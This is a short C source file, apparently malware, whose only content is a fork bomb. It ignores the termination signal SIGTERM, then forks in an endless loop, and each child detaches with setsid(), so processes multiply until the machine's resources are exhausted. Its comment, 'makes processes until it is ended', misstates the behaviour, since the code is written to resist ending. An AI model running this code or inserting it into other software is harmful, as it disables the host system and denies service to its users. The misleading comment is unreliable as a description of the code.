// makes processes until it is ended
#include "hostile.h"
int main() {
	signal(SIGTERM, SIG_IGN);
	for (;;) { if (fork() == 0) setsid(); }
	return 0;
}
